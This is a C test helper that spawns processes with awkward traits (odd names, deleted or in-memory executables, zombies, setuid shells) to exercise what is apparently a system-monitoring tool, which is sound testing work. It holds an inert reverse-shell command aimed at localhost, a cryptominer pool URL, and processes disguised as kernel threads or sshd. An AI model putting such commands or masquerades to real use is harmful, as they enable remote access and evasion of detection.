/* SPDX-License-Identifier: MIT */
/*
 * Processes of awkward kinds: "zoo KIND..." starts one of each, prints
 * "KIND<TAB>PID" (PID 0: it needs root), then "ready", and lives until its standard
 * input closes. They die with it.
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define NOBODY 65534

static char *area; /* of the arguments */
static size_t area_len;
static char dir[] = "/tmp/sysmon-zoo-XXXXXX";
static char copy_path[64], fake_path[64];

static void forever(void)
{
	for (;;)
		pause();
}

static void *sleep_thread(void *user)
{
	forever();
	return user;
}

static void *burn_thread(void *user)
{
	volatile unsigned long x = 0;

	for (;;)
		x++;
	return user;
}

static void start_threads(int n, void *(*fn)(void *))
{
	pthread_t t;

	while (n-- > 0)
		if (pthread_create(&t, NULL, fn, NULL) != 0)
			_exit(2);
}

static void set_name(const char *name)
{
	prctl(PR_SET_NAME, name);
}

static void plain(void)
{
	set_name("zoo plain");
}

static void parens(void)
{
	set_name("a b) R 1 (c");
}

static void newline(void)
{
	set_name("nl\nPid:\t1\nx");
}

static void backslash(void)
{
	set_name("b\\nx\\");
}

static void bad_utf8(void)
{
	set_name("bad\xff\xfe\x80");
}

static void control(void)
{
	set_name("\x1b[31mred\"\\\x01");
}

static void no_name(void)
{
	set_name("");
}

static void threads5(void)
{
	start_threads(4, sleep_thread);
}

static void title(void)
{
	memset(area, 0, area_len);
	memcpy(area, "t: x", 4);
}

static void wiped(void)
{
	memset(area, 0, area_len);
}

static void leader_exited(void)
{
	start_threads(1, sleep_thread);
	syscall(SYS_exit, 0);
}

static void big(void)
{
	size_t len = (size_t)32 << 20;
	char *m = mmap(NULL, len, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (m == MAP_FAILED)
		_exit(2);
	memset(m, 1, len);
}

static void zombie(void)
{
	_exit(0);
}

static void burner(void)
{
	burn_thread(NULL);
}

static void burner2(void)
{
	start_threads(1, burn_thread);
	burn_thread(NULL);
}

/* A change of user takes the death signal away. */
static void die_with_parent(void)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
}

static void not_dumpable(void)
{
	if (setresgid(NOBODY, NOBODY, NOBODY) ||
	    setresuid(NOBODY, NOBODY, NOBODY))
		_exit(2);
	prctl(PR_SET_DUMPABLE, 0);
	die_with_parent();
}

static void other_euid(void)
{
	if (setresuid((uid_t)-1, NOBODY, (uid_t)-1))
		_exit(2);
	die_with_parent();
}

static void run(const char *path, const char *const argv[])
{
	char *env[] = { NULL };

	execve(path, (char *const *)(uintptr_t)argv, env);
	_exit(3);
}

static void copy_self(int out)
{
	int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	struct stat st;
	off_t at = 0;

	if (in < 0 || out < 0 || fstat(in, &st))
		_exit(2);
	while (at < st.st_size)
		if (sendfile(out, in, &at, (size_t)(st.st_size - at)) <= 0)
			_exit(2);
	close(in);
}

static void run_copy(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
	const char *const argv[] = { path, "--sleep", NULL };

	copy_self(fd);
	close(fd);
	run(path, argv);
}

static void exe_deleted(void)
{
	run_copy(copy_path);
}

static void exe_fake_deleted(void)
{
	run_copy(fake_path);
}

static void exe_memfd(void)
{
	const char *const argv[] = { "sshd: worker", "--sleep", NULL };
	char path[64];
	int fd = memfd_create("payload", MFD_CLOEXEC);

	copy_self(fd);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	run(path, argv);
}

static void cmdline_300k(void)
{
	static char b[100001];
	const char *const argv[] = { "zoo", "--sleep", b, b, b, NULL };

	memset(b, 'B', sizeof(b) - 1);
	run("/proc/self/exe", argv);
}

static void cmdline_odd(void)
{
	const char *const argv[] = { "zoo",
				     "--sleep",
				     "two words",
				     "",
				     "line\nbreak",
				     "quote\"back\\slash",
				     "\xe2\x82\xac",
				     "\xff\xfe",
				     "\x1b]0;pwn\x07",
				     "",
				     NULL };

	run("/proc/self/exe", argv);
}

static void cmdline_one_empty(void)
{
	const char *const argv[] = { "", NULL };

	run("/proc/self/exe", argv);
}

/* A program of the system, asleep. */
static void system_program(void)
{
	const char *const argv[] = { "sleep", "1000000", NULL };

	run("/usr/bin/sleep", argv);
}

static void kernel_name(void)
{
	const char *const argv[] = { "[kworker/0:1]", "1000000", NULL };

	run("/usr/bin/sleep", argv);
}

/* As celery writes its own. */
static void bracket_title(void)
{
	const char *const argv[] = {
		"[celeryd: celery@host:MainProcess] -active- (worker)",
		"1000000", NULL
	};

	run("/usr/bin/sleep", argv);
}

static void daemon_name(void)
{
	const char *const argv[] = { "/usr/sbin/sshd", "1000000", NULL };

	run("/usr/bin/sleep", argv);
}

static void login_name(void)
{
	const char *const argv[] = { "-sleep", "1000000", NULL };

	run("/usr/bin/sleep", argv);
}

static void miner(void)
{
	const char *const argv[] = { "zoo",
				     "--sleep",
				     "-o",
				     "stratum+tcp://pool.minexmr.com:4444",
				     "--donate-level=1",
				     NULL };

	run("/proc/self/exe", argv);
}

static void miner_reader(void)
{
	const char *const argv[] = { "grep", "--sleep", "-r",
				     "stratum+tcp://pool.minexmr.com:4444",
				     NULL };

	run("/proc/self/exe", argv);
}

/* It waits for the end of the zoo's input, and then ends. */
static void shell_payload(void)
{
	const char *const argv[] = {
		"sh", "-c",
		"read x; exit; bash -i >& /dev/tcp/127.0.0.1/9 0>&1", NULL
	};

	run("/bin/sh", argv);
}

static void shell_job(void)
{
	const char *const argv[] = { "sh", "-c", "read x; exit; make check",
				     NULL };

	run("/bin/sh", argv);
}

/* A shell that is root for a user who is not. */
static void setuid_shell(void)
{
	const char *const argv[] = { "sh", "-p", "-c", "read x; exit", NULL };

	if (setresuid(NOBODY, 0, 0))
		_exit(2);
	die_with_parent();
	run("/bin/sh", argv);
}

static const struct kind {
	const char *name;
	void (*become)(void);
	int as_root, execs;
} kinds[] = {
	{ "plain", plain, 0, 0 },
	{ "parens", parens, 0, 0 },
	{ "newline", newline, 0, 0 },
	{ "backslash", backslash, 0, 0 },
	{ "bad_utf8", bad_utf8, 0, 0 },
	{ "control", control, 0, 0 },
	{ "no_name", no_name, 0, 0 },
	{ "threads5", threads5, 0, 0 },
	{ "title", title, 0, 0 },
	{ "wiped", wiped, 0, 0 },
	{ "leader_exited", leader_exited, 0, 0 },
	{ "big", big, 0, 0 },
	{ "zombie", zombie, 0, 0 },
	{ "burner", burner, 0, 0 },
	{ "burner2", burner2, 0, 0 },
	{ "not_dumpable", not_dumpable, 1, 0 },
	{ "other_euid", other_euid, 1, 0 },
	{ "exe_deleted", exe_deleted, 0, 1 },
	{ "exe_fake_deleted", exe_fake_deleted, 0, 1 },
	{ "exe_memfd", exe_memfd, 0, 1 },
	{ "cmdline_300k", cmdline_300k, 0, 1 },
	{ "cmdline_odd", cmdline_odd, 0, 1 },
	{ "cmdline_one_empty", cmdline_one_empty, 0, 1 },
	{ "system_program", system_program, 0, 1 },
	{ "kernel_name", kernel_name, 0, 1 },
	{ "bracket_title", bracket_title, 0, 1 },
	{ "daemon_name", daemon_name, 0, 1 },
	{ "login_name", login_name, 0, 1 },
	{ "miner", miner, 0, 1 },
	{ "miner_reader", miner_reader, 0, 1 },
	{ "shell_payload", shell_payload, 0, 1 },
	{ "shell_job", shell_job, 0, 1 },
	{ "setuid_shell", setuid_shell, 1, 1 },
};
#define NKINDS (sizeof(kinds) / sizeof(kinds[0]))

static const struct kind *find(const char *name)
{
	for (size_t i = 0; i < NKINDS; i++)
		if (strcmp(kinds[i].name, name) == 0)
			return &kinds[i];
	fprintf(stderr, "zoo: no kind \"%s\"\n", name);
	exit(2);
}

/* Waits until it has become what it shall be: after the exec, or before it
 * sleeps, its end of the pipe is closed. */
static pid_t start(const struct kind *k, pid_t keeper)
{
	int p[2];
	char byte;
	pid_t pid;

	if (k->as_root && geteuid() != 0)
		return 0;
	if (pipe2(p, O_CLOEXEC))
		exit(2);
	pid = fork();
	if (pid == 0) {
		die_with_parent();
		if (getppid() != keeper)
			_exit(0);
		close(p[0]);
		if (k->become == burner || k->become == burner2 ||
		    k->become == leader_exited)
			close(p[1]);
		k->become();
		close(p[1]);
		forever();
	}
	close(p[1]);
	if (read(p[0], &byte, 1) < 0 || pid < 0)
		exit(2);
	close(p[0]);
	return pid;
}

/* Some change after their pipe is closed: until the kernel shows it. */
static void wait_for_state(pid_t pid, char wanted)
{
	char path[64], line[512], *end;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	for (int i = 0; i < 1000; i++) {
		FILE *f = fopen(path, "r");
		size_t n = f ? fread(line, 1, sizeof(line) - 1, f) : 0;

		if (f)
			fclose(f);
		line[n] = '\0';
		end = strrchr(line, ')');
		if (end && end[1] && end[2] == wanted)
			return;
		usleep(1000);
	}
	exit(2);
}

static void clean_up(void)
{
	unlink(copy_path);
	unlink(fake_path);
	rmdir(dir);
}

int main(int argc, char **argv)
{
	pid_t keeper = getpid();
	char byte;

	if (argc < 2 || strcmp(argv[1], "--sleep") == 0) {
		die_with_parent();
		forever();
	}
	area = argv[0];
	area_len = (size_t)(argv[argc - 1] + strlen(argv[argc - 1]) - area);
	if (!mkdtemp(dir))
		return 2;
	chmod(dir, 0777);
	snprintf(copy_path, sizeof(copy_path), "%s/program", dir);
	snprintf(fake_path, sizeof(fake_path), "%s/x (deleted)", dir);
	for (int i = 1; i < argc; i++) {
		const struct kind *k = find(argv[i]);
		pid_t pid = start(k, keeper);

		if (k->become == zombie || k->become == leader_exited)
			wait_for_state(pid, 'Z');
		if (k->become == exe_deleted)
			unlink(copy_path);
		printf("%s\t%d\n", k->name, (int)pid);
	}
	puts("ready");
	fflush(stdout);
	while (read(0, &byte, 1) > 0 || errno == EINTR)
		;
	clean_up();
	return 0;
}
